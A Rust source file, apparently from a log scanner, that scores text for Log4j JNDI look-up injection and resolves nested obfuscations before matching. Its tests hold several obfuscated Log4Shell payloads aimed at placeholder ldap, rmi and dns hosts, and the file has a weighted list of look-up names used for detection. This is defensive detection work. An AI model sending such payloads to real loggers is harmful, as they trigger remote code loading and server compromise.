//! Look-ups that a logger follows (`${jndi:...}`), nested ones resolved first.

use crate::bytes::{at, begins, from};

/// Nested look-ups that are followed.
const DEPTH_MAX: usize = 64;

/// Resolves look-ups; keeps its buffers.
#[derive(Debug, Default)]
pub(crate) struct Lookup {
    out: Vec<u8>,
    starts: Vec<usize>,
}

/// What a look-up is called; how plain it is.
const NAMES: &[(&[u8], u8)] = &[
    (b"jndi:", 10),
    (b"${jndi", 10),
    (b"env:", 5),
    (b"sys:", 5),
    (b"java:", 6),
    (b"ctx:", 5),
    (b"lower:", 5),
    (b"upper:", 5),
    (b"::-", 6),
    (b"base64:", 5),
    (b"script:", 7),
    (b"dns:", 7),
    (b"url:", 6),
    (b"main:", 5),
    (b"bundle:", 5),
    (b"log4j:", 6),
    (b"k8s:", 5),
    (b"docker:", 5),
    (b"web:", 5),
    (b"map:", 5),
    (b"marker:", 5),
    (b"sd:", 5),
    (b"date:", 4),
];

impl Lookup {
    /// How plainly a text is a look-up, 0 to 10.
    pub(crate) fn score(&mut self, text: &[u8]) -> u8 {
        let Self { out, starts } = self;
        out.clear();
        starts.clear();
        let (mut most, mut place) = (0, 0);
        while let Some(&byte) = text.get(place) {
            if byte == b'$' && at(text, place + 1) == b'{' {
                if starts.len() == DEPTH_MAX {
                    return most.max(6);
                }
                starts.push(out.len());
                place += 2;
                continue;
            }
            if byte == b'}'
                && let Some(start) = starts.pop()
            {
                most = most.max(resolve(out, start, starts.len()));
            } else {
                out.push(byte.to_ascii_lowercase());
            }
            place += 1;
        }
        // A look-up that is not closed is one all the same when it is this one.
        let opened = starts.first().map(|&start| from(out, start));
        let is_open = opened.is_some_and(|open| begins(open, b"jndi:"));
        if is_open { 10 } else { most }
    }
}

/// Puts what a look-up gives in its place.
fn resolve(out: &mut Vec<u8>, start: usize, depth: usize) -> u8 {
    let inner = from(out, start);
    let name = inner.iter().take_while(|byte| **byte <= b' ').count();
    let named = from(inner, name);
    let known = NAMES.iter().find(|(known, _)| named.starts_with(known));
    let score = known.map_or(0, |(_, score)| *score);
    if begins(named, b"jndi:") {
        return 10;
    }
    let kept = if let Some(at) = memchr::memmem::rfind(inner, b":-") {
        Some(at + 2)
    } else if begins(named, b"lower:") || begins(named, b"upper:") {
        Some(name + 6)
    } else if begins(named, b"date:") {
        Some(name + 5)
    } else {
        None
    };
    if let Some(kept) = kept {
        out.drain(start..start + kept);
        out.retain(|byte| !(depth > 0 && *byte == b'\''));
    }
    score
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn nested_lookups_are_resolved() {
        let mut lookup = Lookup::default();
        for text in [
            "${jndi:ldap://x/a}",
            "${${lower:j}ndi:rmi://x}",
            "${${::-j}${::-n}${::-d}${::-i}:ldap://x}",
            "${${env:NONE:-j}ndi${env:NONE:-:}ldap://x}",
            "a ${JnDi:dns://x",
            "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x}",
        ] {
            assert_eq!(lookup.score(text.as_bytes()), 10, "{text}");
        }
        for text in ["${name}", "costs $5 {each}", "${user.home}", "}${"] {
            assert!(lookup.score(text.as_bytes()) < 5, "{text}");
        }
        assert!(lookup.score("${".repeat(9_999).as_bytes()) >= 5);
    }
}
